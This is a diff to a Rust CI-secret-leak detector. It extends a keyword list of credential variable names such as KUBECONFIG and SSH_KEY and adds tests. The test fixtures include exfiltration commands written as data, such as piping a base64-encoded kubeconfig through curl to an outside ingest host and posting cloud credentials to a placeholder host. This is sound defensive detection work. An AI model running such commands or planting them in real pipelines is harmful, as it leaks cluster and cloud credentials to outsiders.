@@ -196,8 +196,10 @@ pub(crate) fn ci_workflow_leak(text: &str) -> bool {
 }
 
 /// A network line whose data (not its headers) carries a variable named as
-/// a secret (`-d "job=$CI_JOB_TOKEN&aws=$AWS_SECRET_ACCESS_KEY"`); a token in
-/// an `Authorization` header is how the service itself is called.
+/// a secret (`-d "job=$CI_JOB_TOKEN&aws=$AWS_SECRET_ACCESS_KEY"`) or as a
+/// credential file CI hands the job (`cat "$KUBECONFIG" | curl -d @- …`,
+/// GitLab's file variables); a token in an `Authorization` header is how
+/// the service itself is called.
 fn sends_secret_vars(line: &str) -> bool {
     let mut out = String::new();
     let mut words = line.split_whitespace();
@@ -233,6 +235,12 @@ fn sends_secret_vars(line: &str) -> bool {
             "ACCESS_KEY",
             "PRIVATE_KEY",
             "API_KEY",
+            "KUBECONFIG",
+            "CREDENTIAL",
+            "PASSWD",
+            "SSH_KEY",
+            "DEPLOY_KEY",
+            "SIGNING_KEY",
         ]
         .iter()
         .any(|s| name.contains(s))
@@ -281,6 +289,23 @@ mod tests {
             "env > /tmp/e && gh gist create notes.md",
         ] {
             assert!(!staged(cmd), "{cmd}");
+        }
+    }
+
+    #[test]
+    fn ci_jobs_that_send_credential_variables_leak() {
+        for job in [
+            "script:\n  - cat \"$KUBECONFIG\" | base64 | curl -s -d @- https://gl-metrics.io/ingest\n",
+            "script:\n  - curl -d \"k=$GOOGLE_APPLICATION_CREDENTIALS\" https://x.example\n",
+        ] {
+            assert!(ci_workflow_leak(job), "{job}");
+        }
+        for job in [
+            "script:\n  - kubectl --kubeconfig \"$KUBECONFIG\" apply -f k8s/\n",
+            "script:\n  - curl -H \"Authorization: Bearer $CI_JOB_TOKEN\" https://gitlab.example/api/v4/projects\n",
+            "script:\n  - curl -fsSL https://x.example/health\n",
+        ] {
+            assert!(!ci_workflow_leak(job), "{job}");
         }
     }
 }
